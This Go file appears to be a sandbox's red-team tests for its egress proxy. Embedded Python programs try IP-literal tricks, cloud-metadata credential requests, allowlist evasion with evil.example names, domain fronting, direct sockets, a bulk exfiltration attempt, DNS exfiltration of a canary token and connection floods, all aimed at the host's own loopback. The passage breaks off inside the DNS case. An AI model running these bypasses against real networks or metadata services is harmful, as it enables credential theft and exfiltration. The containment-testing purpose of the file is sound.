package redteam

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"math"
	"net"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
)

// Cases against the egress path of network mode allowlist: the in-sandbox
// bridge on 127.0.0.1:3128 and the host-side proxy behind it. Each is
// judged from the host: what host listeners on loopback accepted and
// received, and the proxy's own log (result.Network). Every destination is
// this machine's loopback; the only other names the proxy is handed are
// names the allowlist refuses before any resolution. None is marked
// unsandboxed: on a bare host nothing listens on 127.0.0.1:3128, so the
// programs would only fail to reach the proxy.

func registerEgressCases() {
	for _, c := range []Case{
		{
			ID: "net-egress-ip-literal", Category: "network", Severity: "critical",
			Threat: "reach a host loopback service through the proxy by IP literal (http://127.0.0.1:PORT/, CONNECT 127.0.0.1:PORT, [::ffff:127.0.0.1], 2130706433, 127.1, 0x7f.0.0.1) with no address grant",
			Why:    "the proxy refuses every IP literal not in network.allow_addresses, in every notation, before dialing: the host listener accepts nothing and every attempt is logged ip-literal",
			custom: egressIPLiteral,
		},
		{
			ID: "net-egress-name-to-loopback", Category: "network", Severity: "critical",
			Threat: "an allowlisted name that resolves to the host's loopback (localhost:PORT granted, no address grant; also LOCALHOST. and CONNECT) reaches a host service",
			Why:    "the proxy resolves the name itself and refuses reserved answers that are not explicitly granted: logged private-address with the address, the host listener accepts nothing",
			custom: egressNameToLoopback,
		},
		{
			ID: "net-egress-metadata", Category: "network", Severity: "critical",
			Threat: "reach a cloud metadata service through the proxy (http://169.254.169.254/, CONNECT to it, decimal and IPv4-mapped forms, fd00:ec2::254)",
			Why:    "IP literals are refused before any dial: every attempt is logged refused with no dialed address",
			custom: egressMetadata,
		},
		{
			ID: "net-egress-matcher-tricks", Category: "network", Severity: "high",
			Threat: "slip past the allowlist matcher with names built around an allowed one (allowed.test.evil.example, evil-allowed.test, upper case, trailing dot, userinfo allowed.test@evil.example) or another port of an allowed name",
			Why:    "rules match normalised whole names and exact ports: every trick is refused before resolution, a second server on another port of the granted name sees nothing, while the granted localhost:PORT is reached (the control)",
			custom: egressMatcherTricks,
		},
		{
			ID: "net-egress-address-grant-ports", Category: "network", Severity: "high",
			Threat: "with allow [localhost:PORT] and allow_addresses [127.0.0.1] (the documented way to reach one test server), reach a different host loopback service by IP literal (http://127.0.0.1:OTHER/, CONNECT 127.0.0.1:OTHER)",
			Why:    "docs/THREATS.md promises that a loopback grant exposes services only to names that are also allowed: a port no rule names must stay unreachable, by name or by literal",
			custom: egressAddressGrantPorts,
		},
		{
			ID: "net-egress-fronting", Category: "network", Severity: "high",
			Threat: "domain fronting: CONNECT to a granted localhost:443 and send a TLS ClientHello with SNI evil.example (or plaintext), or plain HTTP to a granted name with Host: evil.example",
			Why:    "on port 443 the ClientHello's SNI must equal the CONNECT name or the tunnel is cut (sni-mismatch) before a byte reaches the destination; plain HTTP is decided on the URI authority and the proxy rewrites Host. SNI is not checked on ports other than 443 (opaque tunnels, by design): the evidence records what a non-443 destination saw",
			custom: egressFronting,
		},
		{
			ID: "net-egress-ech", Category: "network", Severity: "high",
			Threat: "domain fronting with Encrypted Client Hello: CONNECT to a granted localhost:443 and send a real ECH ClientHello (crypto/tls's bytes) whose outer SNI is the granted localhost and whose encrypted inner SNI is evil.example",
			Why:    "the proxy can read only the outer SNI; a CDN routes on the inner one, so any ClientHello with ECH (0xfe0d, its drafts, or ESNI 0xffce) is refused (ech-refused) before a byte reaches the destination, whatever its outer name; a plain ClientHello with SNI localhost is the control that must arrive",
			custom: egressECH,
		},
		{
			ID: "net-egress-bypass-proxy", Category: "network", Severity: "critical",
			Threat: "ignore HTTP_PROXY and connect straight to a granted host server (curl --noproxy, raw sockets to 127.0.0.1:PORT, 127.0.0.2, [::1])",
			Why:    "the sandbox's loopback is its own: the only way out is the proxy. The host server sees exactly the requests sent through the proxy, none of the direct ones",
			custom: egressBypassProxy,
		},
		{
			ID: "net-egress-exfil-budget", Category: "network", Severity: "high",
			Threat: "exfiltrate 24 MB through a granted destination (an opaque CONNECT tunnel, a POST, then several smaller POSTs) past max_bytes_out: 1MiB",
			Why:    "the byte budget is per run, shared by every connection and metered on the tunnel as on plain HTTP: the host server receives at most 1 MiB and the log records limit-bytes",
			custom: egressExfilBudget,
		},
		{
			ID: "net-egress-conn-flood", Category: "network", Severity: "medium",
			Threat: "open 200 CONNECT tunnels at once to a granted server with max_connections 4 and connections_per_second 5, to overload the host server or stall moat",
			Why:    "the proxy refuses connections over the concurrency and rate limits in its accept loop (limit-conns, limit-rate): the host server never holds more than 4 and sees a rate-bounded number, and the run ends promptly",
			custom: egressConnFlood,
			alone:  true,
		},
		{
			ID: "net-egress-dns", Category: "network", Severity: "high",
			Threat: "with mode allowlist, resolve names from inside (getaddrinfo of a secret-bearing name, UDP to 127.0.0.1:53) to exfiltrate through DNS",
			Why:    "the sandbox has no resolver and no route: lookups fail, the host's port 53 (when moat can bind it) receives nothing, and the proxy log holds no entry (names are resolved only by the proxy, for allowed requests)",
			custom: egressDNS,
		},
		{
			ID: "net-egress-slowloris", Category: "network", Severity: "medium",
			Threat: "hold the proxy with 10 connections that send half a request line and stall, so that the run's (or moat's) proxy stops serving",
			Why:    "each client connection has its own handshake deadline and slot; a normal request through the proxy to a granted server still succeeds quickly while the slow ones hang",
			custom: egressSlowloris,
			alone:  true,
		},
	} {
		register(c)
	}
}

// egressRun runs argv with network mode allowlist, the given grants and
// limits.
func (r *runner) egressRun(ctx context.Context, allow, addrs []string, tune func(*manifest.Network), argv []string) (*result.Result, time.Duration, error) {
	m := r.defaults()
	m.Network.Mode = "allowlist"
	m.Network.Allow = allow
	m.Network.AllowAddresses = addrs
	if tune != nil {
		tune(&m.Network)
	}
	if err := m.Validate(); err != nil {
		return nil, 0, err
	}
	m.Tier = r.tier // after validation, as netRun
	start := time.Now()
	res, err := r.exec(ctx, &engine.Request{Manifest: m, Argv: argv})
	return res, time.Since(start), err
}

// egressSink is a host TCP listener on loopback that records every
// connection: how many were accepted, the most at once, the bytes received
// and the first bytes of each. With reply it answers an HTTP request once
// the header has arrived; otherwise it reads until the peer closes.
type egressSink struct {
	l                    net.Listener
	reply                bool
	accepts, bytes, live atomic.Int64
	peak                 atomic.Int64
	mu                   sync.Mutex
	heads                []string
	conns                map[net.Conn]bool
	wg                   sync.WaitGroup
}

func egressListen(addr string, reply bool) (*egressSink, error) {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	s := &egressSink{l: l, reply: reply, conns: map[net.Conn]bool{}}
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.accepts.Add(1)
			if n := s.live.Add(1); n > s.peak.Load() {
				s.peak.Store(n) // only the accept loop raises it
			}
			s.mu.Lock()
			s.conns[c] = true
			s.mu.Unlock()
			s.wg.Add(1)
			go s.serve(c)
		}
	}()
	return s, nil
}

func (s *egressSink) serve(c net.Conn) {
	defer s.wg.Done()
	var head []byte
	defer func() {
		c.Close()
		s.live.Add(-1)
		s.mu.Lock()
		delete(s.conns, c)
		s.heads = append(s.heads, string(head))
		s.mu.Unlock()
	}()
	c.SetDeadline(time.Now().Add(40 * time.Second))
	buf := make([]byte, 32<<10)
	for {
		n, err := c.Read(buf)
		s.bytes.Add(int64(n))
		if len(head) < 4096 {
			head = append(head, buf[:min(n, 4096-len(head))]...)
		}
		if s.reply && bytes.Contains(head, []byte("\r\n\r\n")) {
			fmt.Fprint(c, "HTTP/1.1 200 OK\r\nContent-Length: 14\r\nConnection: close\r\n\r\nmoat-sink-hit\n")
			return
		}
		if err != nil {
			return
		}
	}
}

func (s *egressSink) port() int { return s.l.Addr().(*net.TCPAddr).Port }

// close stops the listener, ends open connections and returns what every
// connection sent first.
func (s *egressSink) close() []string {
	s.l.Close()
	time.Sleep(50 * time.Millisecond) // a proxy close in flight lands as EOF
	s.mu.Lock()
	for c := range s.conns {
		c.Close()
	}
	s.mu.Unlock()
	s.wg.Wait()
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.heads...)
}

// egressPy is the attack programs' proxy client: raw requests to the
// bridge, so the exact request line is the attacker's.
const egressPy = `
import socket, ssl, subprocess, sys, time
def ask(req, timeout=5):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=timeout)
    s.sendall(req.encode("latin-1"))
    buf = b""
    try:
        while b"\r\n\r\n" not in buf:
            d = s.recv(4096)
            if not d:
                break
            buf += d
    except OSError as e:
        return s, "error %s" % e
    return s, (buf.split(b"\r\n", 1)[0].decode("latin-1") or "closed")
def get(url, host=None, path_host=None):
    h = host or url.split("/")[2]
    s, st = ask("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (url, h))
    s.close()
    print("GET", url, "->", st)
    return st
def connect(hp, close=True):
    s, st = ask("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (hp, hp))
    print("CONNECT", hp, "->", st)
    if close:
        s.close()
    return s, st
def curl(*args):
    r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5"] + list(args), capture_output=True, text=True)
    print("curl", " ".join(args), "->", r.stdout, r.returncode, r.stderr.strip()[:80])
`

func egressProg(body string, args ...string) []string {
	return append([]string{"python3", "-c", egressPy + body}, args...)
}

// egressReasons summarises the log as reason counts, for evidence.
func egressReasons(res *result.Result) string {
	n := map[string]int{}
	for _, a := range res.Network {
		k := a.Reason
		if a.Allowed {
			k += "(allowed)"
		}
		n[k]++
	}
	var ks []string
	for k := range n {
		ks = append(ks, fmt.Sprintf("%s=%d", k, n[k]))
	}
	sort.Strings(ks)
	return strings.Join(ks, " ")
}

// egressAllowed returns the log entries that were let through.
func egressAllowed(res *result.Result) []result.NetworkAttempt {
	var out []result.NetworkAttempt
	for _, a := range res.Network {
		if a.Allowed {
			out = append(out, a)
		}
	}
	return out
}

func fmtAttempt(a result.NetworkAttempt) string {
	return fmt.Sprintf("%s %s:%d addr=%q allowed=%v reason=%s", a.Method, a.Host, a.Port, a.Address, a.Allowed, a.Reason)
}

func egressIPLiteral(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	p := strconv.Itoa(sink.port())
	prog := `
p = sys.argv[1]
for u in ["http://127.0.0.1:%s/", "http://[::ffff:127.0.0.1]:%s/", "http://2130706433:%s/", "http://127.1:%s/", "http://0x7f.0.0.1:%s/", "http://0177.0.0.1:%s/"]:
    get(u % p)
for hp in ["127.0.0.1:%s", "[::ffff:7f00:1]:%s", "[::1]:%s", "2130706433:%s"]:
    connect(hp % p)
curl("http://127.0.0.1:%s/curl" % p)
`
	const want = 11
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, nil, nil, egressProg(prog, p))
	sink.close()
	if err != nil {
		return runErr(err)
	}
	if n := sink.accepts.Load(); n > 0 {
		return Escaped, fmt.Sprintf("the host listener accepted %d connection(s) through the proxy (%s)", n, egressReasons(res)), 1
	}
	if a := egressAllowed(res); len(a) > 0 {
		return Escaped, "the proxy let an IP literal through: " + fmtAttempt(a[0]), 1
	}
	lit := 0
	for _, a := range res.Network {
		if a.Reason == "ip-literal" {
			lit++
		}
	}
	if len(res.Network) < want || lit < 2 {
		return Error, fmt.Sprintf("the proxy logged %d attempts (%d ip-literal), want %d: the program did not run as planned (%s)", len(res.Network), lit, want, netTail(res)), 1
	}
	return Contained, fmt.Sprintf("host listener saw no connection; %d literal attempts all refused (%s)", len(res.Network), egressReasons(res)), 1
}

func egressNameToLoopback(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	p := strconv.Itoa(sink.port())
	prog := `
p = sys.argv[1]
get("http://localhost:%s/" % p)
get("http://LOCALHOST.:%s/" % p)
connect("localhost:%s" % p)
connect("LocalHost.:%s" % p)
curl("http://localhost:%s/curl" % p)
`
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, nil, nil, egressProg(prog, p))
	sink.close()
	if err != nil {
		return runErr(err)
	}
	if n := sink.accepts.Load(); n > 0 {
		return Escaped, fmt.Sprintf("the host listener accepted %d connection(s) through the proxy (%s)", n, egressReasons(res)), 1
	}
	if a := egressAllowed(res); len(a) > 0 {
		return Escaped, "the proxy let a name resolving to loopback through: " + fmtAttempt(a[0]), 1
	}
	priv := 0
	for _, a := range res.Network {
		if a.Reason == "private-address" && a.Host == "localhost" && a.Address == "127.0.0.1" {
			priv++
		}
	}
	if priv < 5 {
		return Error, fmt.Sprintf("want 5 private-address refusals for localhost (127.0.0.1), got %d (%s; %s)", priv, egressReasons(res), netTail(res)), 1
	}
	return Contained, fmt.Sprintf("host listener saw no connection; %d attempts refused private-address (localhost -> 127.0.0.1)", priv), 1
}

func egressMetadata(ctx context.Context, r *runner) (string, string, int) {
	prog := `
for u in ["http://169.254.169.254/latest/meta-data/", "http://2852039166/latest/meta-data/", "http://[::ffff:169.254.169.254]/", "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials"]:
    get(u)
for hp in ["169.254.169.254:80", "169.254.169.254:443", "[fd00:ec2::254]:80"]:
    connect(hp)
curl("-H", "Metadata-Flavor: Google", "http://169.254.169.254/computeMetadata/v1/")
`
	const want = 9
	// The one grant is a name nothing asks for.
	res, _, err := r.egressRun(ctx, []string{"allowed.test"}, nil, nil, egressProg(prog))
	if err != nil {
		return runErr(err)
	}
	for _, a := range res.Network {
		if a.Allowed || a.Address != "" || a.BytesOut > 0 || a.BytesIn > 0 {
			return Escaped, "the proxy dialed toward a metadata address: " + fmtAttempt(a), 1
		}
	}
	if len(res.Network) < want {
		return Error, fmt.Sprintf("the proxy logged %d attempts, want %d (%s)", len(res.Network), want, netTail(res)), 1
	}
	return Contained, fmt.Sprintf("%d metadata attempts refused with no address dialed (%s)", len(res.Network), egressReasons(res)), 1
}

func egressMatcherTricks(ctx context.Context, r *runner) (string, string, int) {
	granted, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	other, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		granted.close()
		return Error, "host setup: " + err.Error(), 0
	}
	p, q := strconv.Itoa(granted.port()), strconv.Itoa(other.port())
	prog := `
p, q = sys.argv[1], sys.argv[2]
for u in ["http://allowed.test.evil.example/", "http://evil-allowed.test/", "http://ALLOWED.TEST.evil.example/", "http://allowed.test.evil.example./",
          "http://allowed.test@evil.example/", "http://evil.example/#allowed.test", "http://evil.example/?allowed.test",
          "http://localhost:%s/other" % q, "http://localhost.:%s/other" % q]:
    get(u)
get("http://evil.example/", host="allowed.test")
for hp in ["allowed.test.evil.example:443", "evil-allowed.test:443", "allowed.test@evil.example:443", "localhost:%s" % q]:
    connect(hp)
curl("http://allowed.test@evil.example/")
curl("http://localhost:%s/other-curl" % q)
get("http://localhost:%s/control" % p)
curl("http://localhost:%s/control-curl" % p)
`
	res, _, err := r.egressRun(ctx, []string{"allowed.test", "localhost:" + p}, []string{"127.0.0.1"}, nil, egressProg(prog, p, q))
	gh, _ := granted.close(), other.close()
	if err != nil {
		return runErr(err)
	}
	if n := other.accepts.Load(); n > 0 {
		return Escaped, fmt.Sprintf("the server on localhost:%s (a port no rule names) accepted %d connection(s) (%s)", q, n, egressReasons(res)), 1
	}
	for _, a := range egressAllowed(res) {
		if a.Host != "localhost" || a.Port != granted.port() {
			return Escaped, "the matcher let a trick through: " + fmtAttempt(a), 1
		}
	}
	control := 0
	for _, h := range gh {
		switch {
		case strings.HasPrefix(h, "GET /control"):
			control++
		default:
			return Escaped, fmt.Sprintf("the granted server saw a request other than the control: %q", clip(h, 120)), 1
		}
	}
	if control != 2 {
		return Error, fmt.Sprintf("the positive control reached the granted server %d times, want 2: the case cannot tell (%s; %s)", control, egressReasons(res), netTail(res)), 1
	}
	if refused := len(res.Network) - 2; refused < 15 {
		return Error, fmt.Sprintf("the proxy logged %d refusals, want 15 (%s)", refused, egressReasons(res)), 1
	}
	return Contained, fmt.Sprintf("every trick refused (%s); the other port's server saw nothing; the control reached the granted server twice", egressReasons(res)), 1
}

func egressAddressGrantPorts(ctx context.Context, r *runner) (string, string, int) {
	granted, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	other, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		granted.close()
		return Error, "host setup: " + err.Error(), 0
	}
	p, q := strconv.Itoa(granted.port()), strconv.Itoa(other.port())
	prog := `
p, q = sys.argv[1], sys.argv[2]
get("http://localhost:%s/control" % p)
get("http://localhost:%s/by-name" % q)
get("http://127.0.0.1:%s/by-literal" % q)
s, st = connect("127.0.0.1:%s" % q, close=False)
if st.split(" ")[1:2] == ["200"]:
    s.sendall(b"GET /by-literal-tunnel HTTP/1.1\r\nHost: x\r\n\r\n"); s.recv(100)
s.close()
`
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, []string{"127.0.0.1"}, nil, egressProg(prog, p, q))
	gh, oh := granted.close(), other.close()
	if err != nil {
		return runErr(err)
	}
	if len(gh) != 1 || !strings.HasPrefix(gh[0], "GET /control") {
		return Error, fmt.Sprintf("the control did not reach the granted server (%d requests; %s; %s)", len(gh), egressReasons(res), netTail(res)), 1
	}
	if len(oh) > 0 {
		var lines []string
		for _, h := range oh {
			lines = append(lines, strings.SplitN(h, "\r\n", 2)[0])
		}
		var how []string
		for _, a := range egressAllowed(res) {
			if a.Port == other.port() {
				how = append(how, fmtAttempt(a))
			}
		}
		return Escaped, fmt.Sprintf("the server on 127.0.0.1:%s, a port no network.allow rule names, received %q; proxy log: %s", q, lines, strings.Join(how, "; ")), 1
	}
	return Contained, fmt.Sprintf("the other port's server saw nothing (%s); the control reached the granted one", egressReasons(res)), 1
}

func egressFronting(ctx context.Context, r *runner) (string, string, int) {
	tls443, err := egressListen("127.0.0.1:443", false)
	have443 := err == nil
	why443 := ""
	if !have443 {
		why443 = "port 443 on the host's loopback is busy: " + err.Error()
	}
	opaque, err := egressListen("127.0.0.1:0", false)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	web, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		opaque.close()
		return Error, "host setup: " + err.Error(), 0
	}
	o, w := strconv.Itoa(opaque.port()), strconv.Itoa(web.port())
	prog := `
o, w, have443 = sys.argv[1], sys.argv[2], sys.argv[3] == "1"
def hello(hp, sni):
    s, st = connect(hp, close=False)
    if st.split(" ")[1:2] == ["200"]:
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        s.settimeout(2)
        try:
            ctx.wrap_socket(s, server_hostname=sni); print("handshake", hp, sni, "completed")
        except (OSError, ssl.SSLError) as e:
            print("handshake", hp, sni, "ended", type(e).__name__)
    s.close()
if have443:
    hello("localhost:443", "evil.example")
    hello("localhost:443", "allowed.localhost.evil.example")
    s, st = connect("localhost:443", close=False)
    if st.split(" ")[1:2] == ["200"]:
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"); s.settimeout(2)
        try: s.recv(100)
        except OSError: pass
    s.close()
    hello("localhost:443", "localhost")
hello("localhost:%s" % o, "evil.example")
get("http://localhost:%s/fronted-raw" % w, host="evil.example")
curl("-H", "Host: evil.example", "http://localhost:%s/fronted-curl" % w)
`
	allow := []string{"localhost:" + o, "localhost:" + w}
	flag443 := "0"
	if have443 {
		allow = append(allow, "localhost:443")
		flag443 = "1"
	}
	res, _, err := r.egressRun(ctx, allow, []string{"127.0.0.1"}, nil, egressProg(prog, o, w, flag443))
	var th []string
	if have443 {
		th = tls443.close()
	}
	oh, wh := opaque.close(), web.close()
	if err != nil {
		return runErr(err)
	}
	var held []string
	if have443 {
		control := false
		for _, h := range th {
			switch {
			case strings.Contains(h, "evil.example"):
				return Escaped, fmt.Sprintf("the destination behind localhost:443 received a ClientHello or request naming evil.example (%d bytes first sent)", len(h)), 1
			case strings.Contains(h, "localhost"):
				control = true
			case h != "":
				return Escaped, fmt.Sprintf("the destination behind localhost:443 received %d bytes from a tunnel that should have been cut: %q", len(h), clip(h, 60)), 1
			}
		}
		mism := 0
		for _, a := range res.Network {
			if a.Port == 443 && a.Reason == "sni-mismatch" && !a.Allowed {
				mism++
			}
		}
		if !control || mism < 3 {
			return Error, fmt.Sprintf("on port 443: control ClientHello (SNI localhost) arrived=%v, sni-mismatch refusals=%d of 3 (%s; %s)", control, mism, egressReasons(res), netTail(res)), 1
		}
		held = append(held, fmt.Sprintf("port 443: %d mismatched tunnels cut with sni-mismatch, no byte forwarded, the SNI localhost control arrived", mism))
	} else {
		held = append(held, why443+" (SNI not tested)")
	}
	for _, h := range wh {
		if strings.Contains(strings.ToLower(h), "host: evil.example") {
			return Escaped, fmt.Sprintf("the granted web server received a request with Host: evil.example: %q", clip(h, 120)), 1
		}
	}
	fronted := 0
	for _, h := range wh {
		if strings.HasPrefix(h, "GET /fronted") && strings.Contains(h, "Host: localhost:"+w) {
			fronted++
		}
	}
	if fronted != 2 {
		return Error, fmt.Sprintf("the plain-HTTP fronting attempts reached the granted server %d times with the rewritten Host, want 2 (%d requests)", fronted, len(wh)), 1
	}
	held = append(held, "plain HTTP with Host: evil.example arrived with Host rewritten to the URI's localhost:"+w)
	sniSeen := false
	for _, h := range oh {
		sniSeen = sniSeen || strings.Contains(h, "evil.example")
	}
	held = append(held, fmt.Sprintf("non-443 port %s (opaque tunnel by design): the destination saw SNI evil.example=%v", o, sniSeen))
	return Contained, strings.Join(held, "; "), 1
}

func egressBypassProxy(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	p := strconv.Itoa(sink.port())
	var six *egressSink
	sixPort := "0"
	if s, err := egressListen("[::1]:0", true); err == nil {
		six, sixPort = s, strconv.Itoa(s.port())
	}
	prog := `
import os
p, p6 = sys.argv[1], sys.argv[2]
curl("--noproxy", "*", "http://127.0.0.1:%s/direct-curl" % p)
curl("--noproxy", "*", "http://localhost:%s/direct-curl-name" % p)
for fam, host, port in [(socket.AF_INET, "127.0.0.1", p), (socket.AF_INET, "127.0.0.2", p), (socket.AF_INET6, "::1", p), (socket.AF_INET6, "::1", p6), (socket.AF_INET6, "::ffff:127.0.0.1", p)]:
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2)
    try:
        s.connect((host, int(port))); s.sendall(b"GET /direct-raw HTTP/1.0\r\n\r\n"); print("direct", host, port, "connected", s.recv(64))
    except OSError as e:
        print("direct", host, port, "failed", e)
    s.close()
env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
r = subprocess.run(["python3", "-c", "import urllib.request,sys; print(urllib.request.urlopen('http://127.0.0.1:%s/direct-urllib' % sys.argv[1], timeout=2).read())", p], env=env, capture_output=True, text=True)
print("urllib without proxy env:", r.returncode)
curl("http://localhost:%s/proxied" % p)
`
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, []string{"127.0.0.1"}, nil, egressProg(prog, p, sixPort))
	heads := sink.close()
	var sixHeads []string
	if six != nil {
		sixHeads = six.close()
	}
	if err != nil {
		return runErr(err)
	}
	if len(sixHeads) > 0 {
		return Escaped, fmt.Sprintf("the host's [::1] listener accepted %d connection(s)", len(sixHeads)), 1
	}
	proxied := 0
	for _, h := range heads {
		if !strings.HasPrefix(h, "GET /proxied") {
			return Escaped, fmt.Sprintf("the host server received a connection that did not come through the proxy: %q", clip(h, 80)), 1
		}
		proxied++
	}
	if proxied != 1 {
		return Error, fmt.Sprintf("the request through the proxy reached the host server %d times, want 1: the case cannot tell (%s; %s)", proxied, egressReasons(res), netTail(res)), 1
	}
	return Contained, fmt.Sprintf("the host server saw only the one request sent through the proxy (%d accepted); every direct path failed", sink.accepts.Load()), 1
}

func egressExfilBudget(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", false)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	p := strconv.Itoa(sink.port())
	prog := `
p = sys.argv[1]
chunk = b"x" * 65536
s, st = connect("localhost:%s" % p, close=False)
sent = 0
if st.split(" ")[1:2] == ["200"]:
    s.settimeout(5)
    try:
        for _ in range(128):
            s.sendall(chunk); sent += len(chunk)
    except OSError as e:
        print("tunnel stopped after", sent, e)
s.close()
print("tunnel sent", sent)
open("/tmp/big", "wb").write(b"y" * 8000000)
open("/tmp/small", "wb").write(b"z" * 300000)
curl("-X", "POST", "--data-binary", "@/tmp/big", "http://localhost:%s/post" % p)
for i in range(3):
    curl("-X", "POST", "--data-binary", "@/tmp/small", "http://localhost:%s/small" % p)
`
	const budget = 1 << 20
	res, _, err := r.egressRun(ctx, []string{"localhost:" + p}, []string{"127.0.0.1"}, func(n *manifest.Network) {
		n.MaxBytesOut = manifest.Size(budget)
	}, egressProg(prog, p))
	sink.close()
	if err != nil {
		return runErr(err)
	}
	got := sink.bytes.Load()
	if got > budget {
		return Escaped, fmt.Sprintf("the host server received %d bytes past a %d-byte max_bytes_out (%s)", got, budget, egressReasons(res)), 1
	}
	var logged int64
	limit := 0
	for _, a := range res.Network {
		logged += a.BytesOut
		if a.Reason == "limit-bytes" {
			limit++
		}
	}
	if limit == 0 {
		return Error, fmt.Sprintf("no limit-bytes entry in the network log although the program sent 24 MB (%s; %s)", egressReasons(res), netTail(res)), 1
	}
	return Contained, fmt.Sprintf("the host server received %d bytes of a %d budget (log counts %d out; %s)", got, budget, logged, egressReasons(res)), 1
}

func egressConnFlood(ctx context.Context, r *runner) (string, string, int) {
	sink, err := egressListen("127.0.0.1:0", false)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	after, err := egressListen("127.0.0.1:0", false)
	if err != nil {
		sink.close()
		return Error, "host setup: " + err.Error(), 0
	}
	p, q := strconv.Itoa(sink.port()), strconv.Itoa(after.port())
	// One thread, 200 sockets: the pids limit would stop 200 threads.
	prog := `
import select, collections
p, q = sys.argv[1], sys.argv[2]
req = ("CONNECT localhost:%s HTTP/1.1\r\nHost: localhost:%s\r\n\r\n" % (p, p)).encode()
socks, tally = [], collections.Counter()
for i in range(200):
    s = socket.socket(); s.settimeout(1)
    try:
        s.connect(("127.0.0.1", 3128)); s.sendall(req); socks.append(s)
    except OSError as e:
        tally["connect " + type(e).__name__] += 1
pending, deadline = set(socks), time.time() + 4
while pending and time.time() < deadline:
    ready, _, _ = select.select(list(pending), [], [], 0.2)
    for s in ready:
        pending.discard(s)
        try:
            st = s.recv(200).split(b"\r\n", 1)[0].decode() or "closed"
        except OSError as e:
            st = type(e).__name__
        tally[st] += 1
tally["never answered"] = len(pending)
for s in socks:
    s.close()
time.sleep(2.5)
s, st = connect("localhost:%s" % q)
print("after the flood:", st)
print(dict(tally))
`
	res, took, err := r.egressRun(ctx, []string{"localhost:" + p, "localhost:" + q}, []string{"127.0.0.1"}, func(n *manifest.Network) {
		n.MaxConnections, n.ConnectionsPerSecond = 4, 5
	}, egressProg(prog, p, q))
	sink.close()
	after.close()
	if err != nil {
		return runErr(err)
	}
	if peak := sink.peak.Load(); peak > 4 {
		return Escaped, fmt.Sprintf("the host server held %d proxied connections at once with max_connections 4", peak), 1
	}
	bound := 5 + 5*int64(math.Ceil(took.Seconds())) + 1
	if n := sink.accepts.Load(); n > bound {
		return Escaped, fmt.Sprintf("the host server accepted %d connections in %.1fs with connections_per_second 5 (bound %d)", n, took.Seconds(), bound), 1
	}
	if took > 25*time.Second || res.Termination == "timeout" {
		return Escaped, fmt.Sprintf("the run stalled: %.1fs, termination %s (host server %d accepted; log %s; %s)", took.Seconds(), res.Termination, sink.accepts.Load(), egressReasons(res), netTail(res)), 1
	}
	// Moat's egress must come back once the flood is over: a request 2.5s
	// later (the rate limiter has refilled, every slot is free) reaches a
	// second granted server.
	if after.accepts.Load() != 1 {
		return Escaped, fmt.Sprintf("egress did not recover after the flood: the server asked 2.5s later accepted %d connection(s) (flood: %s; log %s; run %.1fs)", after.accepts.Load(), clip(strings.TrimSpace(decode(res.Stdout)), 300), egressReasons(res), took.Seconds()), 1
	}
	limited := 0
	for _, a := range res.Network {
		if a.Reason == "limit-conns" || a.Reason == "limit-rate" {
			limited++
		}
	}
	if limited == 0 {
		return Error, fmt.Sprintf("no limit-conns or limit-rate entry after 200 connections (%s; %s)", egressReasons(res), netTail(res)), 1
	}
	return Contained, fmt.Sprintf("host server: %d accepted, at most %d at once; log %s; run took %.1fs (%s)", sink.accepts.Load(), sink.peak.Load(), egressReasons(res), took.Seconds(), netTail(res)), 1
}

func egressDNS(ctx context.Context, r *runner) (string, string, int) {
	token := strings.TrimPrefix(secret(), "moat-canary-")
	sink, err := egressListen("127.0.0.1:0", true)
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer sink.close()
	port53 := "port 53 busy on the host, not tried"
	var udp *netPackets
	if u, err := netListenUDP("udp4", "127.0.0.1:53"); err == nil {
		udp, port53 = u, "host 127.0.0.1:53 received nothing"
	}
	p := strconv.Itoa(sink.port())
	// The program never prints the token: output is a way out too.
	prog := `
import struct
tok = sys.argv[1]
names = [tok + ".moat-redteam.invalid", tok + "-x.moat-redteam.invalid"]
for i, n in enumerate(names):
    try:
        socket.getaddrinfo(n, 80); print("name", i, "RESOLVED")
    except OSError as e:
        print("name", i, "lookup failed", e.errno)
try:
    socket.create_connection((names[0], 80), timeout=2); print("CONNECTED by name")
except OSError as e:
    print("connect by name failed", e.errno)
